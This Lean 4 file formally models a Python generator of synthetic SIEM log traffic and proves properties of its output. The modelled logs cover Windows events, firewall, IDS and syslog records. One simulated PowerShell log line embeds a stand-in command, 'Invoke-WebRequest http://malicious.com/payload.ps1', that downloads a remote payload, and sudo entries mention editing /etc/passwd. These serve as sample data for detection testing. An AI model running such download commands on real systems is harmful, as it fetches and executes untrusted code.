import Mathlib

/-!
Shallow embedding of `src/scripts/simulate_siem_traffic.py`, a synthetic
SIEM log-traffic generator.  Randomness is made explicit: each call to
`random.choice` / `random.randint` / `random.random` / `uuid.uuid4` in the
Python source becomes a field of a per-generator "draws" structure, and each
generator becomes a pure function of the selected agent and those draws.
-/

set_option maxHeartbeats 1000000

namespace Siem

/-- A simulated monitored host or network device: one entry of the `AGENTS`
table (fields `name`, `ip`, `os`, `type`). -/
structure Agent where
  name : String
  ip : String
  os : String
  type : String
deriving DecidableEq, Repr

/-- Python's substring operator `needle in hay` on strings. -/
def pyIn (needle hay : String) : Bool :=
  decide (needle.data <:+: hay.data)

/-- The static agent inventory `AGENTS` of the script. -/
def AGENTS : List Agent :=
  [⟨"Win-DC01", "10.0.0.5", "Windows Server 2022", "wazuh-agent"⟩,
   ⟨"Win-FileServer", "10.0.0.6", "Windows Server 2019", "wazuh-agent"⟩,
   ⟨"Ubuntu-Web01", "10.0.0.20", "Ubuntu 22.04 LTS", "wazuh-agent"⟩,
   ⟨"Gateway-Firewall", "192.168.1.1", "Cisco ASA", "firewall"⟩,
   ⟨"Core-Switch", "192.168.1.2", "Cisco IOS", "network"⟩,
   ⟨"Suricata-IDS", "10.0.0.100", "Suricata", "ids"⟩]

/-- The static pool `EXTERNAL_IPS` of attacker addresses. -/
def EXTERNAL_IPS : List String :=
  ["45.2.1.12", "185.33.22.10", "220.12.55.99", "1.1.1.1", "8.8.8.8",
   "210.10.10.2", "198.51.100.23"]

/-- The static user-name pool `USERS`. -/
def USERS : List String :=
  ["admin", "jsmith", "bwayne", "pve", "system", "service_account"]

/-- A scalar value stored in an event record's `meta` mapping. -/
inductive MetaVal where
  | s (v : String)
  | n (v : Nat)
deriving DecidableEq, Repr

/-- One synthetic log entry: the dict built by a generator, later completed
with a `timestamp` by `send_log`.  Generators never set `timestamp`, so its
default is `none`. -/
structure Record where
  service : String
  level : String
  message : String
  meta : List (String × MetaVal)
  timestamp : Option String := none
deriving DecidableEq, Repr

/-- Lookup of a key in a record's `meta` mapping (Python dict access). -/
def metaLookup (m : List (String × MetaVal)) (k : String) : Option MetaVal :=
  match m with
  | [] => none
  | (k', v) :: rest => if k' = k then some v else metaLookup rest k

/-- The `service` value hard-coded by `gen_windows_event`: the name of the
first entry of `AGENTS` whose type is `"wazuh-agent"` (Python:
`list(filter(lambda x: x["type"] == "wazuh-agent", AGENTS))[0]["name"]`;
the empty-list fallback is unreachable on the static data). -/
def firstWazuhName : String :=
  match AGENTS.filter (fun x => x.type == "wazuh-agent") with
  | a :: _ => a.name
  | [] => ""

/-- The random draws consumed by `gen_windows_event`: indices into its choice
lists plus the rendered UUID string. -/
structure WinDraws where
  eventType : Fin 4
  user : Fin 6
  srcIp : Fin 7
  proc : Fin 4
  script : Fin 3
  uuid : String

/-- The event-type string drawn by `gen_windows_event`. -/
def winEventType (d : WinDraws) : String :=
  (["Login Success", "Login Failed", "Process Creation", "PowerShell"]).get d.eventType

/-- `gen_windows_event`: simulates a Windows Security Event log via Wazuh. -/
def gen_windows_event (agent : Agent) (d : WinDraws) : Record :=
  let event_type := winEventType d
  let user := USERS.get d.user
  let res : Nat × String × String :=
    if event_type = "Login Success" then
      (4624, "INFO",
       "An account was successfully logged on. Subject: Security ID: S-1-5-18, Account Name: "
         ++ agent.name ++ "$. Account Name: " ++ user ++ ", Logon Type: 3.")
    else if event_type = "Login Failed" then
      let src_ip := EXTERNAL_IPS.get d.srcIp
      (4625, "WARN",
       "An account failed to log on. Account Name: " ++ user
         ++ ". Failure Reason: Unknown user name or bad password. Source Network Address: "
         ++ src_ip ++ ".")
    else if event_type = "Process Creation" then
      let proc := (["cmd.exe", "powershell.exe", "svchost.exe", "lsass.exe"]).get d.proc
      (4688, "INFO",
       "A new process has been created. Creator Subject: Account Name: " ++ user
         ++ ". New Process Name: C:\\Windows\\System32\\" ++ proc ++ ".")
    else
      let script := (["Invoke-WebRequest", "Get-Process", "Net-User"]).get d.script
      let msg := "Script Block ID: " ++ d.uuid ++ ". Executing: " ++ script
        ++ " http://malicious.com/payload.ps1"
      (4104, if pyIn "malicious" msg then "ERROR" else "WARN", msg)
  { service := firstWazuhName
    level := res.2.1
    message := "WinEvtLog: Security: EVENT_ID(" ++ toString res.1
      ++ "): Microsoft-Windows-Security-Auditing: " ++ user ++ ": " ++ agent.name
      ++ ": " ++ res.2.2
    meta := [("agent_name", .s agent.name), ("event_id", .n res.1),
             ("category", .s "Windows Security")] }

/-- The random draws consumed by `gen_firewall_log`. `srcExternal` models
`random.random() > 0.5`. -/
structure FwDraws where
  action : Fin 3
  proto : Fin 3
  srcExternal : Bool
  srcIp : Fin 7
  srcPort : Nat
  dstPort : Fin 5
  connId : Nat

/-- The action string drawn by `gen_firewall_log`. -/
def fwAction (d : FwDraws) : String :=
  (["Allowed", "Denied", "Teardown"]).get d.action

/-- The destination port drawn by `gen_firewall_log`. -/
def fwDstPort (d : FwDraws) : Nat :=
  ([80, 443, 22, 3389, 445]).get d.dstPort

/-- `gen_firewall_log`: simulates a Cisco ASA or generic firewall log. -/
def gen_firewall_log (agent : Agent) (d : FwDraws) : Record :=
  let action := fwAction d
  let proto := (["TCP", "UDP", "ICMP"]).get d.proto
  let src_ip := if d.srcExternal then EXTERNAL_IPS.get d.srcIp else "10.0.0.50"
  let dst_ip := agent.ip
  let src_port := d.srcPort
  let dst_port := fwDstPort d
  let level :=
    if action = "Denied" then
      if dst_port ∈ ([22, 3389, 445] : List Nat) then "ERROR" else "WARN"
    else "INFO"
  let msg := "%ASA-6-302013: Built " ++ action.toLower ++ " " ++ proto
    ++ " connection " ++ toString d.connId ++ " for outside:" ++ src_ip ++ "/"
    ++ toString src_port ++ " (" ++ src_ip ++ "/" ++ toString src_port
    ++ ") to inside:" ++ dst_ip ++ "/" ++ toString dst_port ++ " (" ++ dst_ip
    ++ "/" ++ toString dst_port ++ ")"
  { service := agent.name
    level := level
    message := msg
    meta := [("protocol", .s proto), ("action", .s action),
             ("src_ip", .s src_ip), ("dst_port", .n dst_port)] }

/-- A static intrusion-detection catalog entry of `gen_ids_alert`. -/
structure Threat where
  msg : String
  cat : String
  pri : Nat
deriving DecidableEq, Repr

/-- The static threat catalog inside `gen_ids_alert`. -/
def threats : List Threat :=
  [⟨"ET SCAN MSSQL Service default port 1433", "Attempted Information Leak", 2⟩,
   ⟨"ET MALWARE Win32/Spybot.Worm.Variant Data", "A Network Trojan was detected", 1⟩,
   ⟨"GPL ATTACK_RESPONSE id check returned root", "Potentially Bad Traffic", 2⟩,
   ⟨"ET WEB_SERVER Possible SQL Injection Attempt", "Web Application Attack", 1⟩]

/-- The random draws consumed by `gen_ids_alert`. -/
structure IdsDraws where
  threat : Fin 4
  srcIp : Fin 7
  sigId : Nat
  srcPort : Nat

/-- The threat signature drawn by `gen_ids_alert`. -/
def idsThreat (d : IdsDraws) : Threat :=
  threats.get d.threat

/-- `gen_ids_alert`: simulates a Suricata/Snort IDS alert. -/
def gen_ids_alert (agent : Agent) (d : IdsDraws) : Record :=
  let threat := idsThreat d
  let src_ip := EXTERNAL_IPS.get d.srcIp
  let dst_ip := "10.0.0.20"
  let level := if threat.pri = 1 then "ERROR" else "WARN"
  let log_msg := "[**] [1:" ++ toString d.sigId ++ ":1] " ++ threat.msg
    ++ " [**] [Classification: " ++ threat.cat ++ "] [Priority: "
    ++ toString threat.pri ++ "] \x7bTCP\x7d " ++ src_ip ++ ":"
    ++ toString d.srcPort ++ " -> " ++ dst_ip ++ ":80"
  { service := agent.name
    level := level
    message := log_msg
    meta := [("category", .s "Intrusion Detection"), ("threat_name", .s threat.msg),
             ("priority", .n threat.pri), ("attacker_ip", .s src_ip)] }

/-- The random draws consumed by `gen_syslog`. -/
structure SyslogDraws where
  proc : Fin 4
  pid : Nat
  sshUser : Fin 8
  sshIp : Fin 7
  sshStatus : Fin 3
  sshPort : Nat
  sudoUser : Fin 6
  sudoCmd : Fin 3

/-- The process name drawn by `gen_syslog`. -/
def syslogProc (d : SyslogDraws) : String :=
  (["sshd", "sudo", "cron", "systemd"]).get d.proc

/-- The sshd user drawn by `gen_syslog` (pool `USERS + ["root", "invalid_user"]`). -/
def sshUserOf (d : SyslogDraws) : String :=
  (USERS ++ ["root", "invalid_user"]).get d.sshUser

/-- The sshd outcome drawn by `gen_syslog`. -/
def sshStatusOf (d : SyslogDraws) : String :=
  (["Accepted publickey", "Failed password", "Invalid user"]).get d.sshStatus

/-- `gen_syslog`: simulates a generic Linux Syslog/Auth.log entry. -/
def gen_syslog (agent : Agent) (d : SyslogDraws) : Record :=
  let proc := syslogProc d
  let pid := d.pid
  let res : String × String :=
    if proc = "sshd" then
      let user := sshUserOf d
      let src_ip := EXTERNAL_IPS.get d.sshIp
      let status := sshStatusOf d
      let msg := proc ++ "[" ++ toString pid ++ "]: " ++ status ++ " for " ++ user
        ++ " from " ++ src_ip ++ " port " ++ toString d.sshPort ++ " ssh2"
      (msg,
       if status = "Accepted publickey" then "INFO"
       else if user = "root" then "ERROR" else "WARN")
    else if proc = "sudo" then
      let user := USERS.get d.sudoUser
      let cmd := (["/bin/bash", "/usr/bin/vim /etc/passwd", "apt-get install nmap"]).get d.sudoCmd
      let msg := proc ++ "[" ++ toString pid ++ "]: " ++ user
        ++ " : TTY=pts/0 ; PWD=/home/" ++ user ++ " ; USER=root ; COMMAND=" ++ cmd
      (msg, if pyIn "passwd" cmd then "WARN" else "INFO")
    else
      (proc ++ "[" ++ toString pid ++ "]: Service status checks completed.", "DEBUG")
  { service := agent.name
    level := res.2
    message := res.1
    meta := [("process", .s proc), ("pid", .n pid)] }

/-- The outcome of the single HTTP POST of `send_log`: either a response with
a status code and body text, or a transport-level failure (the exception's
rendered message). -/
inductive HttpOutcome where
  | response (status : Nat) (body : String)
  | failure (err : String)

/-- The single console line `send_log` prints for a send attempt. -/
inductive SendReport where
  | success (line : String)
  | httpError (line : String)
  | transportError (line : String)
deriving DecidableEq, Repr

/-- `send_log`: stamps the payload with `timestamp = utcnow().isoformat()+"Z"`
(`now` stands for the `isoformat()` output), performs one POST whose outcome
is `o`, and reports exactly one console line; it never raises and never
retries.  Returns the sent payload and the report. -/
def send_log (payload : Record) (now : String) (o : HttpOutcome) :
    Record × SendReport :=
  let p := { payload with timestamp := some (now ++ "Z") }
  match o with
  | .response st body =>
    if st ∈ ([200, 201] : List Nat) then
      (p, .success ("[+] Sent " ++ p.level ++ " log from " ++ p.service))
    else
      (p, .httpError ("[-] Status " ++ toString st ++ ": " ++ body))
  | .failure e => (p, .transportError ("[!] Error sending log: " ++ e))

/-- The per-iteration draws of the main loop: which draws each generator
would consume if routed to. -/
structure Draws where
  win : WinDraws
  fw : FwDraws
  ids : IdsDraws
  sys : SyslogDraws

/-- One routing step of `main`: picks the generator for the chosen agent and
produces exactly one event record (the payload handed to `send_log`). -/
def dispatch (agent : Agent) (d : Draws) : Record :=
  if agent.type = "wazuh-agent" then
    if pyIn "Windows" agent.os then gen_windows_event agent d.win
    else gen_syslog agent d.sys
  else if agent.type = "firewall" then gen_firewall_log agent d.fw
  else if agent.type = "ids" then gen_ids_alert agent d.ids
  else gen_syslog agent d.sys

end Siem

namespace Siem

/-! ### Helper lemmas about the substring test and string lengths -/

/-- Every string is a substring of itself. -/
theorem pyIn_refl (n : String) : pyIn n n = true :=
  decide_eq_true ⟨[], [], by simp⟩

/-- A substring of `b` is a substring of `a ++ b`. -/
theorem pyIn_append_right (n a b : String) (h : pyIn n b = true) :
    pyIn n (a ++ b) = true := by
  obtain ⟨s, t, hs⟩ := of_decide_eq_true h
  exact decide_eq_true ⟨a.data ++ s, t, by rw [String.data_append, ← hs]; simp⟩

/-- A substring of `a` is a substring of `a ++ b`. -/
theorem pyIn_append_left (n a b : String) (h : pyIn n a = true) :
    pyIn n (a ++ b) = true := by
  obtain ⟨s, t, hs⟩ := of_decide_eq_true h
  exact decide_eq_true ⟨s, t ++ b.data, by rw [String.data_append, ← hs]; simp⟩

/-- Appending on the right preserves positive length. -/
theorem length_pos_left (p r : String) (h : 0 < p.length) :
    0 < (p ++ r).length := by
  rw [String.length_append]; omega

/-- C1: for every firewall record, the level is ERROR exactly when the drawn
action is `"Denied"` and the drawn destination port lies in `{22, 3389, 445}`;
WARN exactly when the action is `"Denied"` and the port lies outside that set;
and INFO exactly when the action is `"Allowed"` or `"Teardown"`. -/
theorem C1_firewall_level_policy (agent : Agent) (d : FwDraws) :
    ((gen_firewall_log agent d).level = "ERROR" ↔
      fwAction d = "Denied" ∧ fwDstPort d ∈ ([22, 3389, 445] : List Nat)) ∧
    ((gen_firewall_log agent d).level = "WARN" ↔
      fwAction d = "Denied" ∧ fwDstPort d ∉ ([22, 3389, 445] : List Nat)) ∧
    ((gen_firewall_log agent d).level = "INFO" ↔
      fwAction d = "Allowed" ∨ fwAction d = "Teardown") := by
  obtain ⟨a, p, se, si, sp, dp, ci⟩ := d
  fin_cases a <;> fin_cases dp <;> exact of_decide_eq_true rfl

/-- C2: for every agent and every sequence of draws, the `service` field of
the host/Windows generator's record is the name of the first `AGENTS` entry of
type `"wazuh-agent"`, namely `"Win-DC01"`, independent of the passed agent. -/
theorem C2_windows_service_field (agent : Agent) (d : WinDraws) :
    (gen_windows_event agent d).service = firstWazuhName ∧
    firstWazuhName = "Win-DC01" :=
  ⟨rfl, rfl⟩

/-- C3: for every IDS alert record, the level is ERROR exactly when the
selected threat signature's priority is 1, and WARN exactly when it is 2
(the only other priority occurring in the four-entry catalog). -/
theorem C3_ids_level_policy (agent : Agent) (d : IdsDraws) :
    ((gen_ids_alert agent d).level = "ERROR" ↔ (idsThreat d).pri = 1) ∧
    ((gen_ids_alert agent d).level = "WARN" ↔ (idsThreat d).pri = 2) := by
  obtain ⟨t, si, sg, sp⟩ := d
  fin_cases t <;> exact of_decide_eq_true rfl

end Siem

namespace Siem

/-- C4: for every syslog record whose drawn process is `sshd`, the level is
ERROR exactly when the drawn outcome differs from `"Accepted publickey"` and
the drawn user is `"root"`; WARN exactly when the outcome differs from
`"Accepted publickey"` and the user is not `"root"`; and INFO exactly when
the outcome is `"Accepted publickey"`. -/
theorem C4_syslog_sshd_level_policy (agent : Agent) (d : SyslogDraws)
    (h : syslogProc d = "sshd") :
    ((gen_syslog agent d).level = "ERROR" ↔
      sshStatusOf d ≠ "Accepted publickey" ∧ sshUserOf d = "root") ∧
    ((gen_syslog agent d).level = "WARN" ↔
      sshStatusOf d ≠ "Accepted publickey" ∧ sshUserOf d ≠ "root") ∧
    ((gen_syslog agent d).level = "INFO" ↔
      sshStatusOf d = "Accepted publickey") := by
  obtain ⟨pr, pid, su, sip, st, spt, sdu, sdc⟩ := d
  fin_cases pr
  · fin_cases su <;> fin_cases st <;> exact of_decide_eq_true rfl
  all_goals exact absurd h (of_decide_eq_true rfl)

/-- Witness for C4: for the concrete sshd draw selecting user `"root"` and
outcome `"Failed password"`, the generated level is ERROR. -/
theorem C4_syslog_sshd_level_policy_witness :
    (gen_syslog ⟨"Ubuntu-Web01", "10.0.0.20", "Ubuntu 22.04 LTS", "wazuh-agent"⟩
      ⟨0, 1234, 6, 0, 1, 55, 0, 0⟩).level = "ERROR" :=
  ((C4_syslog_sshd_level_policy
      ⟨"Ubuntu-Web01", "10.0.0.20", "Ubuntu 22.04 LTS", "wazuh-agent"⟩
      ⟨0, 1234, 6, 0, 1, 55, 0, 0⟩ rfl).1).mpr (by decide)

/-- C5: every send attempt yields exactly one report and a normal return: a
success line exactly for HTTP status 200 or 201, a line carrying the status
code and the response body for any other status, and a caught-and-reported
line for any transport-level failure. -/
theorem C5_sender_outcomes (p : Record) (now : String) :
    (∀ st body, st ∈ ([200, 201] : List Nat) →
      (send_log p now (.response st body)).2 =
        .success ("[+] Sent " ++ p.level ++ " log from " ++ p.service)) ∧
    (∀ st body, st ∉ ([200, 201] : List Nat) →
      (send_log p now (.response st body)).2 =
        .httpError ("[-] Status " ++ toString st ++ ": " ++ body)) ∧
    (∀ e, (send_log p now (.failure e)).2 =
      .transportError ("[!] Error sending log: " ++ e)) := by
  refine ⟨fun st body h => ?_, fun st body h => ?_, fun e => rfl⟩
  · simp only [send_log]
    rw [if_pos h]
  · simp only [send_log]
    rw [if_neg h]

/-- Witness for C5: a concrete 201 response produces exactly the success
line. -/
theorem C5_sender_outcomes_witness :
    (send_log ⟨"s", "INFO", "m", [], none⟩ "T" (.response 201 "ok")).2 =
      .success "[+] Sent INFO log from s" :=
  (C5_sender_outcomes ⟨"s", "INFO", "m", [], none⟩ "T").1 201 "ok" (by decide)

/-- C6: the Sender stamps the payload with `timestamp = now ++ "Z"` — a
non-empty string ending in the literal `"Z"` — and leaves `service`, `level`,
`message` and `meta` unchanged; no generator ever sets a `timestamp`, so every
generator's output has `timestamp = none`. -/
theorem C6_sender_timestamp_frame (p : Record) (now : String) (o : HttpOutcome)
    (agent : Agent) (wd : WinDraws) (fd : FwDraws) (idd : IdsDraws)
    (sd : SyslogDraws) :
    (send_log p now o).1.timestamp = some (now ++ "Z") ∧
    0 < (now ++ "Z").length ∧
    ("Z".data <:+ (now ++ "Z").data) ∧
    (send_log p now o).1.service = p.service ∧
    (send_log p now o).1.level = p.level ∧
    (send_log p now o).1.message = p.message ∧
    (send_log p now o).1.meta = p.meta ∧
    (gen_windows_event agent wd).timestamp = none ∧
    (gen_firewall_log agent fd).timestamp = none ∧
    (gen_ids_alert agent idd).timestamp = none ∧
    (gen_syslog agent sd).timestamp = none := by
  have h1 : (send_log p now o).1 = { p with timestamp := some (now ++ "Z") } := by
    cases o with
    | response st body =>
      simp only [send_log]
      split <;> rfl
    | failure e => rfl
  refine ⟨by rw [h1], ?_, ⟨now.data, by rw [String.data_append]⟩,
    by rw [h1], by rw [h1], by rw [h1], by rw [h1], rfl, rfl, rfl, rfl⟩
  rw [String.length_append]
  exact Nat.lt_of_lt_of_le (by decide) (Nat.le_add_left _ _)

/-- C7: the Dispatcher's routing is total and yields exactly one record per
call: a `"wazuh-agent"` with `"Windows"` in its OS string goes to the
host/Windows generator, a `"wazuh-agent"` otherwise to the syslog generator,
`"firewall"` to the firewall generator, `"ids"` to the IDS generator, and any
other type to the syslog generator. -/
theorem C7_dispatch_routing (agent : Agent) (d : Draws) :
    (agent.type = "wazuh-agent" → pyIn "Windows" agent.os = true →
      dispatch agent d = gen_windows_event agent d.win) ∧
    (agent.type = "wazuh-agent" → pyIn "Windows" agent.os = false →
      dispatch agent d = gen_syslog agent d.sys) ∧
    (agent.type = "firewall" → dispatch agent d = gen_firewall_log agent d.fw) ∧
    (agent.type = "ids" → dispatch agent d = gen_ids_alert agent d.ids) ∧
    (agent.type ≠ "wazuh-agent" → agent.type ≠ "firewall" → agent.type ≠ "ids" →
      dispatch agent d = gen_syslog agent d.sys) := by
  refine ⟨fun h1 h2 => ?_, fun h1 h2 => ?_, fun h1 => ?_, fun h1 => ?_,
    fun h1 h2 h3 => ?_⟩
  · unfold dispatch
    rw [h1, h2, if_pos rfl, if_pos rfl]
  · unfold dispatch
    rw [h1, h2, if_pos rfl, if_neg (by decide)]
  · unfold dispatch
    rw [h1, if_neg (by decide), if_pos rfl]
  · unfold dispatch
    rw [h1, if_neg (by decide), if_neg (by decide), if_pos rfl]
  · unfold dispatch
    rw [if_neg h1, if_neg h2, if_neg h3]

/-- Witness for C7: the static firewall agent `Gateway-Firewall` routes to
the firewall generator. -/
theorem C7_dispatch_routing_witness :
    dispatch ⟨"Gateway-Firewall", "192.168.1.1", "Cisco ASA", "firewall"⟩
        ⟨⟨0, 0, 0, 0, 0, "u"⟩, ⟨1, 0, true, 0, 1024, 3, 10000⟩,
         ⟨0, 0, 2000000, 1024⟩, ⟨0, 1000, 0, 0, 0, 1024, 0, 0⟩⟩ =
      gen_firewall_log ⟨"Gateway-Firewall", "192.168.1.1", "Cisco ASA", "firewall"⟩
        ⟨1, 0, true, 0, 1024, 3, 10000⟩ :=
  (C7_dispatch_routing
    ⟨"Gateway-Firewall", "192.168.1.1", "Cisco ASA", "firewall"⟩
    ⟨⟨0, 0, 0, 0, 0, "u"⟩, ⟨1, 0, true, 0, 1024, 3, 10000⟩,
     ⟨0, 0, 2000000, 1024⟩, ⟨0, 1000, 0, 0, 0, 1024, 0, 0⟩⟩).2.2.1 rfl

end Siem

namespace Siem

/-- The four severity levels of the Event Record data model. -/
def LEVELS : List String := ["DEBUG", "INFO", "WARN", "ERROR"]

/-- The PowerShell script-block message rendered by `gen_windows_event`
always embeds the fixed URL `http://malicious.com/payload.ps1`, so it always
contains `"malicious"`, whatever the UUID and script draws are. -/
theorem ps_msg_malicious (uu : String) (sc : Fin 3) :
    pyIn "malicious" ("Script Block ID: " ++ uu ++ ". Executing: "
      ++ (["Invoke-WebRequest", "Get-Process", "Net-User"]).get sc
      ++ " http://malicious.com/payload.ps1") = true := by
  apply pyIn_append_right
  exact of_decide_eq_true rfl

/-- Whenever the PowerShell event type is drawn, the generated level is
escalated to ERROR. -/
theorem win_ps_level (agent : Agent) (d : WinDraws)
    (h : winEventType d = "PowerShell") :
    (gen_windows_event agent d).level = "ERROR" := by
  obtain ⟨et, u, si, pr, sc, uu⟩ := d
  fin_cases et
  · exact absurd h (of_decide_eq_true rfl)
  · exact absurd h (of_decide_eq_true rfl)
  · exact absurd h (of_decide_eq_true rfl)
  · show (if pyIn "malicious" ("Script Block ID: " ++ uu ++ ". Executing: "
        ++ (["Invoke-WebRequest", "Get-Process", "Net-User"]).get sc
        ++ " http://malicious.com/payload.ps1") then "ERROR" else "WARN") = "ERROR"
    rw [ps_msg_malicious uu sc, if_pos rfl]

/-- The host/Windows generator only emits levels from `LEVELS`. -/
theorem win_level_mem (agent : Agent) (d : WinDraws) :
    (gen_windows_event agent d).level ∈ LEVELS := by
  by_cases h : winEventType d = "PowerShell"
  · rw [win_ps_level agent d h]
    decide
  · obtain ⟨et, u, si, pr, sc, uu⟩ := d
    fin_cases et
    · exact of_decide_eq_true rfl
    · exact of_decide_eq_true rfl
    · exact of_decide_eq_true rfl
    · exact (h (of_decide_eq_true rfl)).elim

/-- The host/Windows generator's message is non-empty. -/
theorem win_message_pos (agent : Agent) (d : WinDraws) :
    0 < (gen_windows_event agent d).message.length := by
  repeat apply length_pos_left
  decide

/-- The firewall generator only emits levels from `LEVELS`. -/
theorem fw_level_mem (agent : Agent) (d : FwDraws) :
    (gen_firewall_log agent d).level ∈ LEVELS := by
  obtain ⟨a, p, se, si, sp, dp, ci⟩ := d
  fin_cases a <;> fin_cases dp <;> exact of_decide_eq_true rfl

/-- The firewall generator's message is non-empty. -/
theorem fw_message_pos (agent : Agent) (d : FwDraws) :
    0 < (gen_firewall_log agent d).message.length := by
  repeat apply length_pos_left
  decide

/-- The IDS generator only emits levels from `LEVELS`. -/
theorem ids_level_mem (agent : Agent) (d : IdsDraws) :
    (gen_ids_alert agent d).level ∈ LEVELS := by
  obtain ⟨t, si, sg, sp⟩ := d
  fin_cases t <;> exact of_decide_eq_true rfl

/-- The IDS generator's message is non-empty. -/
theorem ids_message_pos (agent : Agent) (d : IdsDraws) :
    0 < (gen_ids_alert agent d).message.length := by
  repeat apply length_pos_left
  decide

/-- The syslog generator only emits levels from `LEVELS`. -/
theorem sys_level_mem (agent : Agent) (d : SyslogDraws) :
    (gen_syslog agent d).level ∈ LEVELS := by
  obtain ⟨pr, pid, su, sip, st, spt, sdu, sdc⟩ := d
  fin_cases pr
  · fin_cases su <;> fin_cases st <;> exact of_decide_eq_true rfl
  · fin_cases sdc <;> exact of_decide_eq_true rfl
  · exact of_decide_eq_true rfl
  · exact of_decide_eq_true rfl

/-- The syslog generator's message is non-empty. -/
theorem sys_message_pos (agent : Agent) (d : SyslogDraws) :
    0 < (gen_syslog agent d).message.length := by
  obtain ⟨pr, pid, su, sip, st, spt, sdu, sdc⟩ := d
  fin_cases pr <;> (repeat apply length_pos_left) <;> exact of_decide_eq_true rfl

/-- C8: for every generator, agent, and sequence of draws, the produced
record has a level in `{DEBUG, INFO, WARN, ERROR}` and a non-empty message. -/
theorem C8_level_message_invariant (agent : Agent) (wd : WinDraws)
    (fd : FwDraws) (idd : IdsDraws) (sd : SyslogDraws) :
    ((gen_windows_event agent wd).level ∈ LEVELS ∧
      0 < (gen_windows_event agent wd).message.length) ∧
    ((gen_firewall_log agent fd).level ∈ LEVELS ∧
      0 < (gen_firewall_log agent fd).message.length) ∧
    ((gen_ids_alert agent idd).level ∈ LEVELS ∧
      0 < (gen_ids_alert agent idd).message.length) ∧
    ((gen_syslog agent sd).level ∈ LEVELS ∧
      0 < (gen_syslog agent sd).message.length) :=
  ⟨⟨win_level_mem agent wd, win_message_pos agent wd⟩,
   ⟨fw_level_mem agent fd, fw_message_pos agent fd⟩,
   ⟨ids_level_mem agent idd, ids_message_pos agent idd⟩,
   ⟨sys_level_mem agent sd, sys_message_pos agent sd⟩⟩

/-- C9: whenever the PowerShell event type (event id 4104) is drawn, the
rendered message contains the literal substring `"malicious"` and the level
is always ERROR — WARN is never observable on that path. -/
theorem C9_powershell_always_error (agent : Agent) (d : WinDraws)
    (h : winEventType d = "PowerShell") :
    pyIn "malicious" (gen_windows_event agent d).message = true ∧
    (gen_windows_event agent d).level = "ERROR" := by
  refine ⟨?_, win_ps_level agent d h⟩
  obtain ⟨et, u, si, pr, sc, uu⟩ := d
  fin_cases et
  · exact absurd h (of_decide_eq_true rfl)
  · exact absurd h (of_decide_eq_true rfl)
  · exact absurd h (of_decide_eq_true rfl)
  · apply pyIn_append_right
    exact ps_msg_malicious uu sc

/-- Witness for C9: a concrete PowerShell draw yields level ERROR. -/
theorem C9_powershell_always_error_witness :
    (gen_windows_event ⟨"Win-DC01", "10.0.0.5", "Windows Server 2022", "wazuh-agent"⟩
      ⟨3, 0, 0, 0, 1, "0000-uuid"⟩).level = "ERROR" :=
  (C9_powershell_always_error
    ⟨"Win-DC01", "10.0.0.5", "Windows Server 2022", "wazuh-agent"⟩
    ⟨3, 0, 0, 0, 1, "0000-uuid"⟩ rfl).2

/-- C10: for every firewall record, the drawn destination port is one of
`{80, 443, 22, 3389, 445}`; the `dst_port` meta field carries exactly that
value and the rendered message embeds its decimal rendering. -/
theorem C10_firewall_dst_port_domain (agent : Agent) (d : FwDraws) :
    fwDstPort d ∈ ([80, 443, 22, 3389, 445] : List Nat) ∧
    metaLookup (gen_firewall_log agent d).meta "dst_port" =
      some (.n (fwDstPort d)) ∧
    pyIn (toString (fwDstPort d)) (gen_firewall_log agent d).message = true := by
  refine ⟨?_, rfl, ?_⟩
  · obtain ⟨a, p, se, si, sp, dp, ci⟩ := d
    fin_cases dp <;> exact of_decide_eq_true rfl
  · apply pyIn_append_left
    apply pyIn_append_right
    exact pyIn_refl _

end Siem
